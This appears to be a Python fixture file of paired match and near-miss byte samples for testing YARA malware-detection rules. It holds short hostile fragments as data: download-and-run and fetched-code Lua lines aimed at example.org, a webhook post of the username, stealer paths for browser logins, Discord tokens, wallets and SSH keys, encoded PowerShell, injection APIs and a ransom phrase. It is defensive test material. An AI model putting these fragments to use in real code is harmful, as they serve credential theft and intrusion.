"""For each YARA rule a sample that matches it and one that is close and does not. Nothing here runs."""

PROGRAM = b"MZ" + b"\0" * 62


def program(*strings: str | bytes) -> bytes:
    """Something that begins like a Windows program and holds these strings."""
    return PROGRAM + b"\0".join(s if isinstance(s, bytes) else s.encode() for s in strings) + b"\0"


def wide(text: str) -> bytes:
    """A text as Windows programs hold it."""
    return text.encode("utf-16-le")


EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-" + b"FILE!$H+H*"
DOS_HEADER = b"MZ\x90\0\x03\0\0\0" + b"\0" * 56 + b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd\x21"

SAMPLES: dict[str, tuple[bytes, bytes]] = {
    "lua_drops_program": (
        b'local f = io.open(path .. "\\\\update.exe", "wb")\nf:write(data)\nos.execute(path)\n',
        b'local f = io.open(path .. "/settings.txt", "w")\nf:write(data)\n',
    ),
    "lua_downloads_and_runs": (
        b"os.execute('curl -s -o x https://example.org/x')",
        b"os.execute('mkdir saves') -- see https://example.org/",
    ),
    "lua_runs_fetched_text": (
        b'loadstring(game:HttpGet("https://example.org/a.lua"))()',
        b'local page = http.request("https://example.org/")\nprint(page)',
    ),
    "lua_runs_decoded_text": (b"load(b64_decode(text))()", b"local text = b64_decode(saved)\nload(text)"),
    "lua_character_chain": (
        b"local s = string.char(" + b",".join(str(70 + n).encode() for n in range(30)) + b")",
        b"local s = string.char(65, 66, 67)",
    ),
    "lua_escaped_text": (b'local s = "' + b"\\104" * 60 + b'"', b'local s = "\\27[31m" .. "\\27[0m"'),
    "lua_xor_decoder": (
        b"for i = 1, #s do out[i] = string.char(bit.bxor(s:byte(i), key)) end\nload(table.concat(out))()",
        b"-- a checksum\nfor i = 1, #s do sum = bit.bxor(sum, s:byte(i)) end return string.char(sum)",
    ),
    "lua_bytecode_text": (b'load("\\27Lua\\83\\0\\25")()', b'print("\\27[1mLua\\27[0m")'),
    "text_holds_program": (
        b'local dll = "TVqQAAMAAAAEAAAA' + b'//8AALgAAAAAAAAA"',
        b'local picture = "iVBORw0KGgoAAAANSUhEUgAAABAAAAAQ"',
    ),
    "lua_debug_registry": (b"local r = debug.getregistry()", b"print(debug.traceback())"),
    "text_powershell_hidden": (
        b"powershell.exe -NoProfile -EncodedCommand ZQBjAGgAbwA=",
        b"On Windows, open PowerShell and run `tool -verbose`.",
    ),
    "text_script_host": (
        b'Set s = CreateObject("WScript.Shell")\nSet x = CreateObject("MSXML2.XMLHTTP")',
        b"The WScript.Shell object is not used here.",
    ),
    "obfuscator_luraph": (b"-- This file was made with Luraph Obfuscator v14.4", b"-- The luraph of Kepler"),
    "obfuscator_ironbrew": (b"--[[ IronBrew:tm: obfuscation; Version 2.7.2 ]]", b"-- iron, brewed"),
    "obfuscator_prometheus": (
        b"-- This Script is Part of the Prometheus Obfuscator by somebody",
        b"-- The planet Prometheus has three moons",
    ),
    "obfuscator_others": (
        b"--[[ Protected with MoonSec V3 ]]",
        b"-- Boronide ore, on the moon's three sections",
    ),
    "obfuscated_virtual_machine": (
        b"return(function(...)local e=string.byte local f=string.char local g=string.sub "
        b"local h=getfenv or function()return _ENV end end)(...)",
        b"return (function(...) return string.byte(...) end)('a')",
    ),
    "obfuscated_names": (b"local IlIlIlIlIlIl = 1 " * 30, b"local Illinois = 1 " * 30),
    "stealer_browser": (
        b'open(local_app .. "\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data")',
        b'local status = "Login Data saved"',
    ),
    "stealer_discord": (
        b'path = appdata .. "\\\\discord\\\\Local Storage\\\\leveldb"',
        b"Join us on Discord! Saves lie in Local Storage.",
    ),
    "stealer_wallets": (b'"\\\\Exodus\\\\exodus.wallet"', b"The Exodus begins at dawn; bring your wallet."),
    "stealer_game_accounts": (b'io.open(steam .. "/config/loginusers.vdf")', b"steam_api64 is loaded"),
    "stealer_key_files": (b'home .. "/.ssh/id_rsa"', b"Use ssh to reach the server."),
    "stealer_sends_to_webhook": (
        b'post("https://discord.com/api/webhooks/' + b'123456789/abc", os.getenv("USERNAME"))',
        b'post("https://discord.com/api/webhooks/' + b'123456789/abc", "The server has started")',
    ),
    "stealer_keys_pressed": (
        program("SetWindowsHookExW", "GetAsyncKeyState", "GetForegroundWindow", "GetClipboardData"),
        program("GetAsyncKeyState", "GetForegroundWindow"),
    ),
    "program_downloads_and_runs": (
        program("URLDownloadToFileW", "ShellExecuteW"),
        program("InternetOpenUrlW", "ShellExecuteW"),
    ),
    "program_injects": (
        program("WriteProcessMemory", "VirtualAllocEx", "CreateRemoteThread"),
        program("WriteProcessMemory", "VirtualProtect", "CreateThread"),
    ),
    "program_hollows": (
        program("NtUnmapViewOfSection", "SetThreadContext", "WriteProcessMemory", "ResumeThread"),
        program("SetThreadContext", "SuspendThread", "ResumeThread"),
    ),
    "program_reflective_loader": (program("ReflectiveLoader"), program("ReflectionLoader")),
    "program_powershell": (
        program(wide("powershell.exe -WindowStyle Hidden -Command x")),
        program(wide("PowerShell is not needed")),
    ),
    "program_shell_commands": (
        program("cmd.exe /c del x"),
        program("command /c", "acmd /c", "misc create x"),
    ),
    "program_starts_with_windows": (
        program(wide("Software\\Microsoft\\Windows\\CurrentVersion\\Run")),
        program(wide("Software\\Microsoft\\Windows\\CurrentVersion\\Fonts")),
    ),
    "program_disables_protection": (program("Set-MpPreference -x 1"), program("Get-MpPreference")),
    "program_hides_from_analysis": (
        program("vmtoolsd.exe", "x64dbg.exe", "wireshark.exe"),
        program("fiddler on the roof"),
    ),
    "program_within_a_program": (DOS_HEADER + b"\0" * 200 + DOS_HEADER, DOS_HEADER + b"MZ is how they begin"),
    "program_mines": (b'pool = "stratum+tcp://pool.example.org:3333"', b"Mines ore from the stratum below"),
    "program_ransoms": (
        b"ALL YOUR FILES ARE ENCRYPTED. Send Bitcoin to",
        b"Saves are encrypted. Bitcoin is not taken.",
    ),
    "eicar_test_file": (EICAR, EICAR[:-8]),
}
